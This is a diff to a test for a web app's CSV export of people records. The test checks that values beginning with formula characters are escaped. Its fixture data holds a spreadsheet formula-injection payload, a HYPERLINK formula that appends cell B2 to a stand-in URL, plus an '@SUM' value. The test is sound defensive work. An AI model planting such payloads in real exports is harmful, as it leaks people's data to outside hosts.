@@ -158,7 +158,7 @@ def test_the_list_runs_the_same_number_of_queries_for_more_people(client, auth, 
 def test_exported_cells_cannot_run_as_formulas(client, auth, make_user, add_person):
     mine = make_user("coordinator")
     add_person([mine.id], legal_name="Formula Person", alias="=HYPERLINK(\"https://x/?\"&B2,\"open\")",
-               notes="+1 then @SUM(A1)")
+               current_city="+1 then @SUM(A1)")
     auth.login(mine)
     text = client.get("/people/export.csv").data.decode()
     assert "'=HYPERLINK" in text and "'+1 then" in text
